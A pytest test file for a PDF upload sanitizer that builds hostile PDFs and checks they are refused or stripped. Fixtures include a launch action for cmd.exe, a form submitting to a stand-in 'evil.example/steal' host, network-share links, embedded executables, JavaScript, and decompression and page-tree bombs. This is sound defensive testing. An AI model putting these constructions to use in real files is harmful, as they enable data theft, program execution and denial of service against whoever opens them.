"""PDFs that people hand in: what they show is kept, what they would do is not; a bomb harms a process of its own."""

import io
import threading
import time
import zlib
from collections.abc import Callable
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path
from typing import Any

import pytest
from flask import Flask
from flask.testing import FlaskClient
from pypdf import PdfReader, PdfWriter
from pypdf.generic import (
    ArrayObject,
    DictionaryObject,
    FloatObject,
    NameObject,
    NumberObject,
    StreamObject,
    TextStringObject,
)
from werkzeug.test import TestResponse

from board.accounts.models import Role, User
from board.kernel import pdf
from board.kernel.throttle import Limit
from board.kernel.unit_of_work import SlowInsideUnitOfWork, unit_of_work
from board.web import throttle
from tests.files import pdf as blank


def name(text: str) -> NameObject:
    return NameObject(f"/{text}")


def entry(**values: Any) -> DictionaryObject:
    return DictionaryObject({name(key): value for key, value in values.items()})


def action(kind: str, **more: Any) -> DictionaryObject:
    return entry(Type=name("Action"), S=name(kind), **more)


def text(words: str) -> TextStringObject:
    return TextStringObject(words)


def stream(content: bytes, **more: Any) -> StreamObject:
    made = StreamObject()
    made.set_data(content)
    made.update(entry(**more))
    return made


def built(change: Callable[[PdfWriter], None], *, words: str = "Ada Lovelace") -> bytes:
    """A page with a line on it, and then whatever `change` does to the file."""
    writer = PdfWriter()
    page = writer.add_blank_page(300, 300)
    font = entry(Type=name("Font"), Subtype=name("Type1"), BaseFont=name("Helvetica"))
    page[name("Resources")] = entry(Font=entry(F1=writer._add_object(font)))
    page[name("Contents")] = writer._add_object(stream(f"BT /F1 12 Tf 20 200 Td ({words}) Tj ET".encode()))
    change(writer)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def annotated(writer: PdfWriter, **values: Any) -> DictionaryObject:
    """Something that lies on the first page."""
    box = ArrayObject(FloatObject(number) for number in (10, 10, 100, 40))
    made = entry(Type=name("Annot"), Rect=box, **values)
    page = writer.pages[0]
    listed = page.get("/Annots", ArrayObject())
    listed.append(writer._add_object(made))
    page[name("Annots")] = listed
    return made


def attach(writer: PdfWriter) -> None:
    writer.add_attachment("cv.exe", b"MZ" + b"\0" * 100)


def attach_by_an_icon(writer: PdfWriter) -> None:
    file = entry(Type=name("Filespec"), F=text("cv.exe"), EF=entry(F=writer._add_object(stream(b"MZ"))))
    annotated(writer, Subtype=name("FileAttachment"), FS=file)


def open_a_share(writer: PdfWriter) -> None:
    file = entry(Type=name("Filespec"), F=text(r"\\evil.example\share\x.pdf"))
    writer.root_object[name("OpenAction")] = action("GoToR", F=file)


def launch(writer: PdfWriter) -> None:
    writer.root_object[name("OpenAction")] = action("Launch", F=text("cmd.exe"))


def submit(writer: PdfWriter) -> None:
    target = action("SubmitForm", F=entry(FS=name("URL"), F=text("https://evil.example/steal")))
    annotated(writer, Subtype=name("Widget"), FT=name("Btn"), A=target)


def run_when_left(writer: PdfWriter) -> None:
    more = entry(K=action("JavaScript", JS=text("app.alert(1)")))
    annotated(writer, Subtype=name("Widget"), FT=name("Tx"), AA=more)


def run_by_name(writer: PdfWriter) -> None:
    script = action("JavaScript", JS=text("app.alert(1)"))
    writer.root_object[name("Names")] = entry(JavaScript=entry(Names=ArrayObject([text("run"), script])))


def link_to_a_share(writer: PdfWriter) -> None:
    annotated(writer, Subtype=name("Link"), A=action("URI", URI=text("file://evil.example/share")))


def show_a_film(writer: PdfWriter) -> None:
    annotated(writer, Subtype=name("RichMedia"))


def be_a_program(writer: PdfWriter) -> None:
    writer.root_object[name("AcroForm")] = entry(XFA=writer._add_object(stream(b"<xdp/>")), Fields=ArrayObject())


def fill_in_unseen(writer: PdfWriter) -> None:
    annotated(writer, Subtype=name("Widget"), FT=name("Tx"), V=text("an answer that no page shows"))


def draw_from_elsewhere(writer: PdfWriter) -> None:
    contents = stream(b"")
    contents[name("F")] = text("https://evil.example/page")
    writer.pages[0][name("Contents")] = writer._add_object(contents)


@pytest.mark.parametrize(
    ("change", "words"),
    [
        (attach, "an attached file"),
        (attach_by_an_icon, "an attached file"),
        (open_a_share, "a link to another file"),
        (launch, "starts a program"),
        (submit, "sends itself to another computer"),
        (run_when_left, "a script"),
        (run_by_name, "a script"),
        (link_to_a_share, "a link to a file on a computer or a network"),
        (show_a_film, "film or sound"),
        (be_a_program, "a form with a program in it"),
        (fill_in_unseen, "answers are not drawn"),
        (draw_from_elsewhere, "from elsewhere"),
    ],
    ids=lambda value: getattr(value, "__name__", ""),
)
def test_what_acts_is_refused_and_named(change: Callable[[PdfWriter], None], words: str) -> None:
    with pytest.raises(pdf.BadPdf, match=words):
        pdf.rewritten(built(change))


def rewritten(change: Callable[[PdfWriter], None]) -> PdfReader:
    return PdfReader(io.BytesIO(pdf.rewritten(built(change))))


def test_what_a_page_shows_stays_and_everything_else_is_gone() -> None:
    def change(writer: PdfWriter) -> None:
        annotated(writer, Subtype=name("Link"), A=action("URI", URI=text("https://school.example/ada")))
        annotated(writer, Subtype=name("Link"), A=action("URI", URI=text("gopher:ada")))
        annotated(writer, Subtype=name("Highlight"), T=text("Dr. Reviewer"), AA=entry())
        writer.add_metadata({"/Author": "Ada Lovelace", "/Title": "CV"})
        writer.root_object[name("OpenAction")] = action("GoTo", D=ArrayObject([writer.pages[0].indirect_reference]))
        writer.root_object[name("Lang")] = text("en")
        writer.root_object[name("Unheard")] = text("of")
        writer.pages[0][name("AA")] = entry(O=action("GoTo"))
        writer.pages[0][name("PieceInfo")] = entry()

    reader = rewritten(change)
    page = reader.pages[0]
    assert page.extract_text() == "Ada Lovelace"
    assert set(page) <= {"/Type", "/Parent", "/MediaBox", "/Resources", "/Contents", "/Annots"}
    assert set(reader.root_object) == {"/Type", "/Pages", "/Lang"}
    assert not reader.metadata
    annotations = [reference.get_object() for reference in page["/Annots"]]
    assert [annotation["/Subtype"] for annotation in annotations] == ["/Link", "/Highlight"]
    assert annotations[0]["/A"] == {"/S": "/URI", "/URI": "https://school.example/ada"}
    assert not {"/T", "/AA"} & set(annotations[1])


def test_what_was_filled_into_a_form_stays_to_be_seen_and_lies_flat() -> None:
    def change(writer: PdfWriter) -> None:
        look = stream(b"", Type=name("XObject"), Subtype=name("Form"), BBox=ArrayObject([NumberObject(0)] * 4))
        appearance = entry(N=writer._add_object(look))
        field = annotated(writer, Subtype=name("Widget"), FT=name("Tx"), V=text("Ada"), AP=appearance)
        writer.root_object[name("AcroForm")] = entry(Fields=ArrayObject([field.indirect_reference]))

    reader = rewritten(change)
    annotation = reader.pages[0]["/Annots"][0].get_object()
    assert (annotation["/Subtype"], "/AP" in annotation, "/V" in annotation) == ("/Stamp", True, False)
    assert "/AcroForm" not in reader.root_object


def test_what_only_a_hidden_way_leads_to_is_gone() -> None:
    def change(writer: PdfWriter) -> None:
        stray = entry(Type=name("Annot"), Subtype=name("Watermark"), Rect=ArrayObject(), Contents=text("stray words"))
        other = entry(Type=name("Page"), Contents=writer._add_object(stream(b"(stray page) Tj")))
        tree = entry(Type=name("StructTreeRoot"), K=ArrayObject([writer._add_object(stray), writer._add_object(other)]))
        writer.root_object[name("StructTreeRoot")] = writer._add_object(tree)

    written = pdf.rewritten(built(change))
    assert b"stray" not in written


def nested_pages(depth: int) -> bytes:
    """Each node lists the one below it ten times: ten to the power of `depth` pages in a few hundred bytes."""
    objects = ["1 0 obj <</Type /Catalog /Pages 2 0 R>> endobj"]
    for level in range(depth):
        kids = f"{level + 3} 0 R " * 10
        objects.append(f"{level + 2} 0 obj <</Type /Pages /Count {10 ** (depth - level)} /Kids [{kids}]>> endobj")
    objects.append(f"{depth + 2} 0 obj <</Type /Page /MediaBox [0 0 9 9]>> endobj")
    return ("%PDF-1.4\n" + "\n".join(objects) + "\ntrailer <</Root 1 0 R>>\n%%EOF").encode()


def test_a_tree_of_pages_that_repeats_itself_is_refused_at_once() -> None:
    began = time.monotonic()
    with pytest.raises(pdf.BadPdf, match=r"lists a page twice|damaged"):
        pdf.rewritten(nested_pages(12))
    assert time.monotonic() - began < pdf.PATIENCE


def test_what_unpacks_to_more_than_anybody_reads_is_refused() -> None:
    packed = zlib.compress(b"\0" * (300 * 1024 * 1024), 9)

    def change(writer: PdfWriter) -> None:
        bomb = writer._add_object(stream(packed, Filter=name("FlateDecode")))
        writer.pages[0][name("Contents")] = bomb

    with pytest.raises(pdf.BadPdf, match="unpacks to more"):
        pdf.rewritten(built(change))


def test_what_is_packed_twice_over_is_refused() -> None:
    def change(writer: PdfWriter) -> None:
        twice = ArrayObject([name("FlateDecode"), name("FlateDecode")])
        content = zlib.compress(zlib.compress(b"q Q"))
        writer.pages[0][name("Contents")] = writer._add_object(stream(content, Filter=twice))

    with pytest.raises(pdf.BadPdf, match="packed twice"):
        pdf.rewritten(built(change))


@pytest.mark.parametrize(
    "does",
    ["while True: pass", "x = 'x' * 10**10", "raise SystemExit(1)", "import os; os.abort()", "print('{}')", "print()"],
)
def test_a_reader_that_is_harmed_refuses_the_file(monkeypatch: pytest.MonkeyPatch, tmp_path: Path, does: str) -> None:
    harmed = tmp_path / "child.py"
    limits = "import json, resource, sys\nlimits = json.loads(sys.argv[1])\n"
    limits += "resource.setrlimit(resource.RLIMIT_CPU, (limits['seconds'],) * 2)\n"
    limits += "resource.setrlimit(resource.RLIMIT_AS, (limits['memory'],) * 2)\n"
    harmed.write_text(limits + does)
    monkeypatch.setattr(pdf, "CHILD", harmed)
    monkeypatch.setitem(pdf.LIMITS, "seconds", 1)
    with pytest.raises(pdf.BadPdf, match="could not be checked"):
        pdf.rewritten(blank())


def test_two_are_judged_at_a_time_and_the_third_waits_in_line(monkeypatch: pytest.MonkeyPatch) -> None:
    at_work, most, go = [0], [0], threading.Event()

    def judge(content: bytes) -> bytes:
        at_work[0] += 1
        most[0] = max(most[0], at_work[0])
        go.wait(5)
        at_work[0] -= 1
        return content

    monkeypatch.setattr(pdf, "_judged", judge)
    with ThreadPoolExecutor(3) as pool:
        judged = [pool.submit(pdf.rewritten, blank()) for _ in range(3)]
        time.sleep(0.2)
        monkeypatch.setattr(pdf, "PATIENCE", 0.01)
        with pytest.raises(pdf.BadPdf, match="in a minute"):
            pdf.rewritten(blank())
        go.set()
        assert [each.result() == blank() for each in judged] == [True] * 3
    assert most == [2]


def test_one_person_has_a_limit_of_pdfs_handed_in(
    person: Callable[..., User], browser_of: Callable[[User], FlaskClient], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(throttle, "UPLOADS", Limit.of("uploads", "2 per minute", "You handed in many PDFs."))
    student = browser_of(person("stu", Role.STUDENT))

    def hand_in() -> TestResponse:
        return student.post("/account/profile", data={"name": "Stu", "cv": (io.BytesIO(b"no PDF"), "cv.pdf")})

    assert [hand_in().status_code for _ in range(3)] == [422, 422, 429]


def test_a_pdf_is_never_judged_while_others_wait_to_write(app: Flask) -> None:
    with app.app_context(), unit_of_work(), pytest.raises(SlowInsideUnitOfWork):
        pdf.rewritten(blank())


def test_a_cv_with_a_program_in_it_is_refused_beside_its_field(
    person: Callable[..., User], browser_of: Callable[[User], FlaskClient], app: Flask
) -> None:
    student = browser_of(person("stu", Role.STUDENT))
    answer = student.post("/account/profile", data={"name": "Stu", "cv": (io.BytesIO(built(attach)), "cv.pdf")})
    assert answer.status_code == 422
    assert "That PDF holds an attached file." in answer.text
    assert not [path for path in app.extensions["files"].folder.rglob("*") if path.is_file()]
